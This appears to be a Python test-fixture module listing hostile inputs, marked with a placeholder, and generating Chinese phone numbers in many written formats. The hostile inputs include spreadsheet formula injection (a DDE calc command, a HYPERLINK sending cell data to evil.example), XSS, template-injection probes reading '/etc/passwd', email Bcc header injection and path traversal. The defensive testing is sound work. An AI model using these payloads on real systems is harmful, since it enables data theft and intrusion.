"""Texts that nobody should have to fear in a cell, and phone numbers as people write them."""

from __future__ import annotations

import random
from collections.abc import Callable, Mapping
from pathlib import Path

MARK = "MARK"
PRODUCT = str(7919 * 104729)
"""What a template would make of the sums in the texts."""
TEXTS = (
    "=cmd|' /C calc'!A0MARK",
    '=HYPERLINK("http://evil.example/?"&A1,"MARK")',
    "=1+1+MARK",
    '="MARK"',
    "+1+1MARK",
    "-2+3MARK",
    "@SUM(1)MARK",
    "\t=1+1MARK",
    "\r=1+1MARK",
    "＝1+1MARK",
    " =1+1MARK",
    "'=1+1MARK",
    '"=1+1"MARK',
    "=MARK!A1",
    "{=1+1}MARK",
    "<script>alert('MARK')</script>",
    "<img src=x onerror=alert(1) alt=MARK>",
    '"><b onclick="x">MARK',
    "</td></tr></table>MARK",
    '<a href="javascript:alert(1)">MARK</a>',
    "&lt;script&gt;MARK&lt;/script&gt;",
    "<!-- MARK",
    "]]>MARK<![CDATA[",
    "<base href=http://evil.example/>MARK",
    "' style='background:url(http://evil.example/MARK)",
    "&#x3c;b&#x3e;MARK",
    "<svg/onload=x>MARK",
    "{{ 7919*104729 }}MARK",
    "{% for x in range(3) %}EVIL{% endfor %}MARK",
    "{{ ''.__class__.__mro__ }}MARK",
    "{% include '/etc/passwd' %}MARK",
    "{# MARK #}",
    "{{ sections }}MARK",
    "${7919*104729}MARK",
    "#{7919*104729}MARK",
    "%s%n%dMARK",
    "{0.__class__}MARK",
    "{客户.手机}MARK",
    "{设置.授权码}MARK",
    "{+WS3}MARK",
    "{引用(设置)}MARK",
    "}}{MARK",
    "{MARK",
    "MARK\r\nBcc: evil@example.net\r\n\r\nX",
    "MARK\nX-Planted: 1",
    "MARK\u2028X-Planted: 1\u2029\u0085X-Planted: 2",
    "MARK\x0bX-Planted: 1\x0c",
    "=?utf-8?B?QmNjOiBldmlsQGV4YW1wbGUubmV0?=MARK",
    "MARK" + "很长" * 1500,
    "MARK, evil@example.net",
    '"MARK" <evil@example.net>',
    "MARK\x1b[2J\x1b]0;x\x07",
    "MARK\x08\x08\x7f",
    "\u202eMARK\u202c\u200b\ufeff",
    "PATH\nMARK",
    "MARK\nPATH",
    "file://PATH MARK",
    "\\\\evil.example\\share\\MARK",
    "../../../../etc/MARK",
    "/etc/MARK",
    "C:\\MARK\\..\\x",
    "CON",
    "MARK|x/y:z*?<>",
    '&"Arial"&24&D&GMARK',
    "MARK；EVIL",
    "MARK,是；'或''",
    "MARK_x000D__x000A_Bcc: evil@example.net",
    "🙂MARK\ud7ff",
    "#REF!MARK",
    "1e9999MARK",
    "MARK\n\n\n=1+1\n@x",
)


def marked(text: str, mark: str, secret: Path) -> str:
    """A text with a mark in it, and the path of a file that lies there."""
    return text.replace(MARK, mark).replace("PATH", str(secret))


def _wide(text: str) -> str:
    return "".join(chr(ord(one) + 0xFEE0) if "!" <= one <= "~" else one for one in text)


def _in(*sizes: int, by: str) -> Callable[[str], str]:
    """The digits in groups."""

    def said(digits: str) -> str:
        at, parts = 0, []
        for size in sizes:
            parts.append(digits[at : at + size])
            at += size
        return by.join(parts)

    return said


def _spoken(one: str, numerals: str) -> str:
    return "".join(numerals[int(digit)] for digit in one)


FORMS: Mapping[str, Callable[[str], str]] = {
    "连写": str,
    "+86 紧跟": lambda one: f"+86{one}",
    "+86 空格": lambda one: f"+86 {one[:3]} {one[3:7]} {one[7:]}",
    "0086": lambda one: f"0086-{one}",
    "86 空格": lambda one: f"86 {one}",
    "＋86 全角": lambda one: _wide(f"+86{one}"),
    "横线": _in(3, 4, 4, by="-"),
    "空格": _in(3, 4, 4, by=" "),
    "点": _in(3, 4, 4, by="."),
    "中间点": _in(3, 4, 4, by="·"),
    "长横线": _in(3, 4, 4, by="—"),
    "全角": _wide,
    "全角带横线": lambda one: _wide(_in(3, 4, 4, by="-")(one)),
    "全角带点": lambda one: _wide(_in(3, 4, 4, by=".")(one)),
    "空格横线": _in(3, 4, 4, by=" - "),
    "两个空格": _in(3, 4, 4, by="  "),
    "不断空格": _in(3, 4, 4, by="\u00a0"),
    "下划线": _in(3, 4, 4, by="_"),
    "斜线": _in(3, 4, 4, by="/"),
    "波浪": _in(3, 4, 4, by="~"),
    "数学减号": _in(3, 4, 4, by="\u2212"),
    "不断横线": _in(3, 4, 4, by="\u2011"),
    "看不见的字": _in(3, 4, 4, by="\u200b"),
    "逗号": _in(3, 4, 4, by=","),
    "三四四换行": _in(3, 4, 4, by="\n"),
    "一个个": _in(*[1] * 11, by=" "),
    "一个个横线": _in(*[1] * 11, by="-"),
    "六五": _in(6, 5, by="-"),
    "四三四": _in(4, 3, 4, by=" "),
    "三三五": _in(3, 3, 5, by="-"),
    "三二三三": _in(3, 2, 3, 3, by=" "),
    "括号": lambda one: f"({one[:3]}){one[3:7]}-{one[7:]}",
    "全角括号": lambda one: f"（{one[:3]}）{one[3:]}",
    "括号 86": lambda one: f"(+86){one}",
    "方括号": lambda one: f"[{one[:3]}]{one[3:7]} {one[7:]}",
    "圈里的数": lambda one: _spoken(one, "⓪①②③④⑤⑥⑦⑧⑨"),
    "中文数字": lambda one: _spoken(one, "零一二三四五六七八九"),
    "幺": lambda one: _spoken(one, "零幺二三四五六七八九"),
    "〇": lambda one: _spoken(one, "〇一二三四五六七八九"),
    "大写": lambda one: _spoken(one, "零壹贰叁肆伍陆柒捌玖"),
    "夹在字里": lambda one: f"微信{one}同号",
    "夹在字母里": lambda one: f"vx{one}ok",
    "数学数字": lambda one: "".join(chr(0x1D7CE + int(d)) for d in one),
    "上标": lambda one: _spoken(one, "⁰¹²³⁴⁵⁶⁷⁸⁹"),
    "数后带 .0": lambda one: f"{one}.0",
    "前面有 0": lambda one: f"0{one}",
    "座机横线": lambda one: f"0571-{one[-8:]}",
    "座机括号": lambda one: f"(0571){one[-8:]}",
    "座机全角": lambda one: _wide(f"0571-{one[-8:]}"),
    "座机空格": lambda one: f"0571 {one[-8:-4]} {one[-4:]}",
    "座机 +86": lambda one: f"+86-571-{one[-8:]}",
    "座机 86 空格": lambda one: f"+86 571 {one[-8:]}",
    "座机转": lambda one: f"0571-{one[-8:]}转8",
    "座机空格横线": lambda one: f"0571 - {one[-8:]}",
    "座机两边括号": lambda one: f"（0571） {one[-8:]}",
    "座机只有本地": lambda one: f"电话：{one[-8:]}",
    "座机中文": lambda one: f"电话 {one[-8:-4]}-{one[-4:]}",
}
"""How a number of eleven digits is written; of a landline its last eight."""


def number(dice: random.Random, form: str) -> str:
    """A number that nobody else has."""
    if form.startswith("座机"):
        return f"{dice.randint(100, 999)}8{dice.randint(0, 9_999_999):07}"
    return f"1{dice.choice('3456789')}{dice.randint(0, 9)}{dice.randint(0, 99_999_999):08}"
